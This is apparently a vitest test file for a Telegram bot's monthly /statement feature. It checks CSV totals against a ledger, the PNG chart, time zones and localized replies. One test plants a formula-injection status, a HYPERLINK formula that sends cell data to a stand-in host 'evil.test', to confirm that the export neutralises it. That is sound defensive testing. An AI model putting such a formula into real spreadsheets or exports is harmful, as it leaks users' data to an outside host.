/**
 * /statement through the bot: the month of the linked account as one card, a
 * chart that decodes as a PNG with the summary and saving estimate as its
 * caption, whose 📄 CSV sends lines that add up to what the service's ledger
 * debited and refunded and whose ◀ ▶ redraw it for another month; the month
 * in the chat's time zone; clear answers for a bad or empty month.
 */
import { parse } from "csv-parse/sync";
import { PNG } from "pngjs";
import { describe, expect, it } from "vitest";
import { monthAt, monthLabel } from "../../../src/shared/statements/statement-month.js";
import type { StoredMessage } from "../../../testkit/fake-telegram/fake-telegram-state.js";
import { signTrxTransfer, TEST_KEYS } from "../../../testkit/tron-sign.js";
import { closeChecked, startOrderHarness, type OrderHarness, useOrderHarness } from "../../bot/order-harness.js";

const CHAT = 5701;
const { bob, carol } = TEST_KEYS;
let h: OrderHarness;

useOrderHarness((started) => (h = started));

const trx = () => signTrxTransfer({ privateKey: bob.privateKey, to: carol.address, amountSun: 1_500_000, expirationMs: Date.now() + 600_000 });

/** Orders of 65,000 and 100,000 energy, a broadcast that lands and one that fails (and is refunded). */
async function monthOfActivity() {
  const account = await h.linkChat(CHAT, { balanceSun: 500_000_000 });
  const user = h.user(CHAT);
  for (const amount of [65_000, 100_000]) {
    await user.send(`/order ${bob.address} ${String(amount)} 1h`);
    await user.press("✅ Confirm");
  }
  // Both broadcasts go out before either is waited for: the two lifecycles overlap instead of adding up.
  const [landing, failing] = [trx(), trx()];
  h.sim.control.setBroadcastOutcome(failing.txID, "failed", "node_rejected");
  for (const tx of [landing, failing]) {
    await user.send(`/broadcast ${JSON.stringify(tx)}`);
    await user.press("✅ Confirm");
  }
  await h.until(() => user.botTexts().some((t) => t.startsWith("✅ Broadcast")) && user.botTexts().some((t) => t.startsWith("❌ Broadcast")));
  return { account, user };
}

const botMedia = () => h.tg.botMessages(CHAT).filter((m) => m.document !== undefined || m.photo !== undefined);

/** /statement <month>, then 📄 CSV on its card: the card and the document. */
/** The statement card and its CSV, found by what they hold: a background notice of the chat's order may come between. */
async function statementWithCsv(user: ReturnType<OrderHarness["user"]>, month: string) {
  await user.send(`/statement ${month}`);
  const card = newest(user, (m) => m.photo !== undefined);
  await user.press(/^📄/, { messageId: card.messageId });
  return { card, csvMessage: newest(user, (m) => m.document !== undefined) };
}

function newest(user: ReturnType<OrderHarness["user"]>, holds: (message: StoredMessage) => boolean): StoredMessage {
  const found = user
    .view()
    .filter((m) => m.from === "bot" && holds(m))
    .at(-1);
  expect(found, "the message was sent").toBeDefined();
  return found!;
}

describe("/statement", () => {
  it("sends the month as a CSV that matches the service's ledger to the sun, a PNG chart and a summary", async () => {
    const { account, user } = await monthOfActivity();
    const page = await h.flows.history.page(CHAT, 0, 10);
    const month = monthLabel(monthAt(page.entries[0]!.createdAtMs, await h.flows.limits.timeZoneOf(CHAT)));

    // Counted apart from the orders' notices, which may still come.
    const statementMessages = () => h.tg.botMessages(CHAT).filter((m) => m.photo !== undefined || m.document !== undefined).length;
    const before = statementMessages();
    await user.send(`/statement ${month}`);
    // One card: the chart with the summary as its caption.
    expect(statementMessages() - before).toBe(1);
    const chartMessage = newest(user, (m) => m.photo !== undefined);
    await user.press(/^📄/, { messageId: chartMessage.messageId });
    const csvMessage = newest(user, (m) => m.document !== undefined);
    expect(csvMessage?.document?.fileName).toBe(`statement-${month}.csv`);
    expect(csvMessage?.text).toMatch(/^Statement for \w+ \d{4}: 5 lines, times in UTC\.$/);
    const csv = csvMessage.document!.bytes!.toString("utf8");
    expect(csv.split("\r\n")[0]).toBe("time,id,kind,receiver,energy,duration_s,cost_sun,cost_trx,status,broadcast_tx_id,chat");
    const lines = parse<Record<string, string>>(csv, { columns: true });
    expect(lines.map((l) => l["kind"])).toEqual(["order", "order", "broadcast", "broadcast", "refund"]);

    const ledger = h.sim.ledger(account.accountId);
    const debits = ledger.filter((e) => e.kind === "debit");
    const refunds = ledger.filter((e) => e.kind === "refund");
    expect(debits).toHaveLength(4);
    expect(refunds).toHaveLength(1);
    const sum = (xs: bigint[]) => xs.reduce((a, b) => a + b, 0n);
    const csvTotal = sum(lines.map((l) => BigInt(l["cost_sun"]!)));
    expect(csvTotal).toBe(sum(debits.map((e) => BigInt(e.amountSun))) - sum(refunds.map((e) => BigInt(e.amountSun))));
    // Line by line too: each id's debit, and the refund negative under the failed broadcast's id.
    for (const l of lines.filter((x) => x["kind"] !== "refund")) {
      expect(BigInt(l["cost_sun"]!)).toBe(BigInt(debits.find((d) => d.ref === l["id"])!.amountSun));
    }
    const refund = lines.find((l) => l["kind"] === "refund")!;
    expect(refund).toMatchObject({ id: refunds[0]!.ref, status: "failed", cost_sun: `-${String(refunds[0]!.amountSun)}` });
    expect(refund["cost_trx"]).toMatch(/^-\d+\.\d{6}$/);
    expect(lines[0]).toMatchObject({ receiver: bob.address, energy: "65000", duration_s: "3600" });
    expect(lines[0]!["time"]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+00:00$/);

    expect(chartMessage?.photo).toBeDefined();
    const png = PNG.sync.read(chartMessage.photo!.bytes!);
    expect(png.width).toBeGreaterThan(0);
    expect(png.height).toBeGreaterThan(0);
    expect(chartMessage?.text).toMatch(/\n\nSpend per day in \w+ \d{4}, in TRX, refunds deducted/);
    expect(chartMessage.buttons.flat().map((b) => b.text)).toEqual(["📄 CSV of the month", expect.stringMatching(/^◀ \w+ \d{4}$/), "📊 Open in the app"]);
    // The same month on the Mini App's Spend screen (PUBLIC_URL is https here).
    const app = chartMessage.buttons.flat().at(-1) as unknown as { web_app?: { url: string } };
    expect(app.web_app?.url).toMatch(/^https:\/\/bot\.example\.test\/app\?screen=spend&month=\d{4}-\d{2}$/);

    const summary = chartMessage.text;
    expect(summary).toContain("Orders: 2,");
    expect(summary).toContain("Broadcasts: 2,");
    expect(summary).toContain("Refunds: 1, −");
    expect(summary).toContain("Estimated saving against burning TRX");
    expect(summary).toContain("This is an estimate: the 165,000 energy of your orders, burnt at 100 sun per energy, would cost 16.5 TRX");
    expect(summary).toContain("Broadcasts are not in the estimate");
  });

  it("writes a service status that starts like a formula as inert text, and its cost as a number", async () => {
    await h.linkChat(CHAT, { balanceSun: 100_000_000 });
    const user = h.user(CHAT);
    h.sim.control.pauseLifecycles(true);
    await user.send(`/order ${bob.address} 65000 1h`);
    await user.press("✅ Confirm");
    const entry = (await h.flows.history.page(CHAT, 0, 1)).entries[0]!;
    const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
    h.sim.control.setOrderStatus(entry.id, evil);
    await h.until(async () => (await h.flows.history.get(CHAT, "order", entry.id))?.status === evil);
    const { csvMessage } = await statementWithCsv(user, monthLabel(monthAt(entry.createdAtMs, "UTC")));
    const csv = csvMessage.document!.bytes!.toString("utf8");
    const lines = parse<Record<string, string>>(csv, { columns: true });
    expect(lines).toHaveLength(1);
    expect(lines[0]!["status"]).toBe(`'${evil}`);
    expect(lines[0]!["cost_sun"]).toMatch(/^\d+$/);
    expect(csv).not.toMatch(/(^|,)"?=/m);
  });

  it("reads the month in the chat's time zone and writes its offset", async () => {
    await h.linkChat(CHAT, { balanceSun: 100_000_000 });
    const user = h.user(CHAT);
    await h.flows.limits.setTimeZone(CHAT, "Asia/Shanghai");
    await user.send(`/order ${bob.address} 65000 1h`);
    await user.press("✅ Confirm");
    const createdAtMs = (await h.flows.history.page(CHAT, 0, 1)).entries[0]!.createdAtMs;
    const month = monthLabel(monthAt(createdAtMs, "Asia/Shanghai"));
    const { csvMessage } = await statementWithCsv(user, `${month.slice(5)}.${month.slice(0, 4)}`);
    const lines = parse<Record<string, string>>(csvMessage.document!.bytes!.toString("utf8"), { columns: true });
    expect(lines).toHaveLength(1);
    expect(lines[0]!["time"]).toMatch(/\+08:00$/);
    expect(csvMessage.text).toContain("times in Asia/Shanghai");
  });

  it("answers a bad month with an example, an empty month with no records, in the chat's language", async () => {
    await h.linkChat(CHAT, { balanceSun: 100_000_000 });
    const user = h.user(CHAT);
    await user.send("/statement 2026-13");
    expect(user.lastText()).toMatch(/^I could not read «2026-13» as a month\. Send the year and month, for example \/statement \d{4}-\d{2}/);
    await user.send("/statement 2001-05");
    expect(user.lastText()).toBe("No orders, broadcasts or refunds in May 2001 (time zone UTC). Pick another month, for example /statement 2001-04.");
    await user.send("/language");
    await user.press("🇷🇺 Русский");
    await user.send("/statement 2001-05");
    expect(user.lastText()).toContain("нет заказов, отправок и возвратов");
    await user.send("/language");
    await user.press("🇨🇳 中文");
    await user.send("/statement 11.2026x");
    expect(user.lastText()).toContain("无法把「11.2026x」识别为月份");
    expect(botMedia()).toEqual([]);
  });

  it("is for linked chats only, and is in /help", async () => {
    const user = h.user(CHAT);
    await user.send("/statement");
    expect(user.lastText()).toContain("This chat is not connected to an account yet");
    await user.send("/help");
    expect(user.lastText()).toContain("/statement — Monthly statement: chart, totals and CSV");
  });
});

describe("the statement card", () => {
  it("redraws itself for the month before, in place; a month with nothing to draw is only said", async () => {
    let offsetMs = -40 * 24 * 3_600_000;
    const now = () => Date.now() + offsetMs;
    // The service stamps the records: its clock moves with the bot's.
    const clocked = await startOrderHarness({ now, simulator: { now } });
    try {
      await clocked.linkChat(CHAT, { balanceSun: 500_000_000 });
      const user = clocked.user(CHAT);
      for (const amount of ["65000", "100000"]) {
        await user.send(`/order ${bob.address} ${amount} 1h`);
        await user.press("✅ Confirm");
        offsetMs = 0;
      }
      await user.send("/statement");
      const card = newest(user, (m) => m.photo !== undefined);
      // Orders' notices may still come: the statement's own messages are the photos and documents.
      const media = () => clocked.tg.botMessages(CHAT).filter((m) => m.photo !== undefined || m.document !== undefined).length;
      const count = media();
      expect(card.text).toContain("Orders: 1, ");
      // The current month has no ▶: there is nothing after it yet.
      expect(card.buttons.flat().some((b) => b.text.endsWith("▶"))).toBe(false);
      const firstChart = card.photo!.fileId;

      await user.press(/^◀/, { messageId: card.messageId });
      const before = clocked.tg.view(CHAT).find((m) => m.messageId === card.messageId)!;
      expect(before.photo!.fileId).not.toBe(firstChart);
      expect(before.text).toContain("Orders: 1, ");
      expect(before.buttons.flat().some((b) => b.text.endsWith("▶"))).toBe(true);
      expect(media()).toBe(count);

      // Two months back there is nothing: said in the button's answer, the card left as it was.
      const empty = await user.press(/^◀/, { messageId: card.messageId });
      expect(clocked.tg.answerOf(empty)?.["text"]).toMatch(/^No orders, broadcasts or refunds in \w+ \d{4}/);
      expect(clocked.tg.view(CHAT).find((m) => m.messageId === card.messageId)!.text).toBe(before.text);
      expect(media()).toBe(count);
    } finally {
      await closeChecked(clocked);
    }
  });
});
